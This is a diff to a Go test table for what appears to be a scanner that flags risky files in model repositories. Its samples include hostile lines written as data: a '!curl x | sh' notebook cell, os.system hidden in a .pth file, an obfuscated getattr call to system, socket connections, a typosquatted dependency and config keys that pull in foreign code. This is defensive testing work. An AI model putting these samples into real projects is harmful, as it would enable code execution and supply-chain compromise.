@@ -19,6 +19,7 @@ func code() []technique {
 		return `{"cells":[{"cell_type":"code","source":["` + line + `\n"]}],"nbformat":4}`
 	}
 	linked := config(69, "", "auto_map: a file of the model", "config.json", `{"auto_map":{"AutoModel":"../x.X"}}`, unsure, "hfconfig/foreign-code", `{"auto_map":{"AutoModel":"modeling_x.X"}}`)
+	linked.at = `"../x`
 	linked.beside = []string{"modeling_x.py", "import torch\n"}
 	return []technique{
 		python(64, "", "a computed name", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", reject, "pysource/process", 2, "import torch\ngetattr(torch.nn, 'ReLU')()\n"),
@@ -43,22 +44,22 @@ func code() []technique {
 		named(python(68, "", "hubconf.py", "import subprocess\nsubprocess.run('id')\n", reject, "pysource/process", 2, "import torch\n"), "hubconf.py"),
 		named(python(68, "", "handler.py", "import socket\nsocket.create_connection(('x', 1))\n", reject, "pysource/network", 2, "import torch\n"), "handler.py"),
 		named(python(68, "", "custom_generate/generate.py", "import os\nos.popen('id')\n", reject, "pysource/process", 2, "def generate(model): return model\n"), "custom_generate/generate.py"),
-		{row: 68, how: "sitecustomize.py", file: "sitecustomize.py", bytes: []byte("x = 1\n"), want: reject, rule: "pysource/start-up-file", nearFile: "customize.py", near: []byte("x = 1\n")},
+		{row: 68, how: "sitecustomize.py", file: "sitecustomize.py", bytes: []byte("x = 1\n"), want: reject, rule: "pysource/start-up-file", at: "^", nearFile: "customize.py", near: []byte("x = 1\n")},
 		{row: 68, how: "a path file", file: "x.pth", bytes: []byte("some/folder\nimport os; os.system('id')\n"), want: reject, rule: "pysource/path-file", at: "import os", near: []byte("some/folder\nimportant\n")},
-		{row: 68, how: "byte code", allowed: true, file: "__pycache__/x.pyc", bytes: []byte("\xa7\x0d\r\n\x00\x00\x00\x00abcdefgh\xe3\x00\x00"), want: unsure, rule: "pysource/byte-code", nearFile: "x.txt", near: []byte("byte code\n")},
-		named(config(68, "", "a notebook", "x.ipynb", notebook("!curl x | sh"), reject, "pysource/notebook-command", notebook("x = 1")), "x.ipynb"),
+		{row: 68, how: "byte code", allowed: true, file: "__pycache__/x.pyc", bytes: []byte("\xa7\x0d\r\n\x00\x00\x00\x00abcdefgh\xe3\x00\x00"), want: unsure, rule: "pysource/byte-code", at: "^", nearFile: "x.txt", near: []byte("byte code\n")},
+		at(named(config(68, "", "a notebook", "x.ipynb", notebook("!curl x | sh"), reject, "pysource/notebook-command", notebook("x = 1")), "x.ipynb"), `"!curl`),
 		linked,
-		config(69, "", "auto_map: another repository", "config.json", `{"auto_map":{"AutoModel":"org/repo--x.X"}}`, unsure, "hfconfig/foreign-code", `{"auto_map":null}`),
-		config(69, "", "auto_map of a tokenizer", "tokenizer_config.json", `{"auto_map":{"AutoTokenizer":["org/repo--x.X",null]}}`, unsure, "hfconfig/foreign-code", `{"tokenizer_class":"LlamaTokenizer"}`),
-		config(69, "", "custom_pipelines", "config.json", `{"custom_pipelines":{"t":{"impl":"x.Y"}}}`, unsure, "hfconfig/custom-pipeline", `{"pipeline_tag":"text-generation"}`),
-		config(69, "", "a component of diffusers", "model_index.json", `{"_class_name":"StableDiffusionPipeline","unet":["my_unet","U"]}`, unsure, "hfconfig/custom-pipeline", `{"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"]}`),
-		config(70, "CVE-2026-4372", "a hub kernel by the internal key", "config.json", `{"_attn_implementation_internal":"org/kernel"}`, reject, "hfconfig/attn-implementation", `{"_attn_implementation":"flash_attention_2"}`),
-		config(70, "", "a hub kernel by the public key", "config.json", `{"_attn_implementation":"org/kernel@main:f"}`, reject, "hfconfig/attn-implementation", `{"_attn_implementation":"sdpa"}`),
-		config(71, "", "another index", "requirements.txt", "--extra-index-url http://x/simple\ntorch\n", reject, "pysource/dependency", "torch>=2.1,<3\n"),
-		config(71, "", "a package by its address", "requirements.txt", "foo @ https://x/foo.whl\n", unsure, "pysource/odd-dependency", "transformers==4.40.0\n"),
-		config(71, "", "a repository", "requirements.txt", "git+https://x/y\n", unsure, "pysource/odd-dependency", "numpy\n"),
-		config(71, "", "an editable install", "requirements.txt", "-e .\n", unsure, "pysource/odd-dependency", "scipy\n"),
-		config(71, "", "a near miss of a name", "requirements.txt", "torhc\n", unsure, "pysource/odd-dependency", "torch\n"),
+		at(config(69, "", "auto_map: another repository", "config.json", `{"auto_map":{"AutoModel":"org/repo--x.X"}}`, unsure, "hfconfig/foreign-code", `{"auto_map":null}`), `"org/repo`),
+		at(config(69, "", "auto_map of a tokenizer", "tokenizer_config.json", `{"auto_map":{"AutoTokenizer":["org/repo--x.X",null]}}`, unsure, "hfconfig/foreign-code", `{"tokenizer_class":"LlamaTokenizer"}`), `"org/repo`),
+		at(config(69, "", "custom_pipelines", "config.json", `{"custom_pipelines":{"t":{"impl":"x.Y"}}}`, unsure, "hfconfig/custom-pipeline", `{"pipeline_tag":"text-generation"}`), `"x.Y"`),
+		at(config(69, "", "a component of diffusers", "model_index.json", `{"_class_name":"StableDiffusionPipeline","unet":["my_unet","U"]}`, unsure, "hfconfig/custom-pipeline", `{"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"]}`), `"my_unet"`),
+		at(config(70, "CVE-2026-4372", "a hub kernel by the internal key", "config.json", `{"_attn_implementation_internal":"org/kernel"}`, reject, "hfconfig/attn-implementation", `{"_attn_implementation":"flash_attention_2"}`), `"org/kernel`),
+		at(config(70, "", "a hub kernel by the public key", "config.json", `{"_attn_implementation":"org/kernel@main:f"}`, reject, "hfconfig/attn-implementation", `{"_attn_implementation":"sdpa"}`), `"org/kernel`),
+		at(config(71, "", "another index", "requirements.txt", "--extra-index-url http://x/simple\ntorch\n", reject, "pysource/dependency", "torch>=2.1,<3\n"), "^"),
+		at(config(71, "", "a package by its address", "requirements.txt", "foo @ https://x/foo.whl\n", unsure, "pysource/odd-dependency", "transformers==4.40.0\n"), "^"),
+		at(config(71, "", "a repository", "requirements.txt", "git+https://x/y\n", unsure, "pysource/odd-dependency", "numpy\n"), "^"),
+		at(config(71, "", "an editable install", "requirements.txt", "-e .\n", unsure, "pysource/odd-dependency", "scipy\n"), "^"),
+		at(config(71, "", "a near miss of a name", "requirements.txt", "torhc\n", unsure, "pysource/odd-dependency", "torch\n"), "^"),
 		sidePickle("rng_state.pth"), sidePickle("training_args.bin"), sidePickle("optimizer.pt"), sidePickle("scheduler.pt"),
 	}
 }
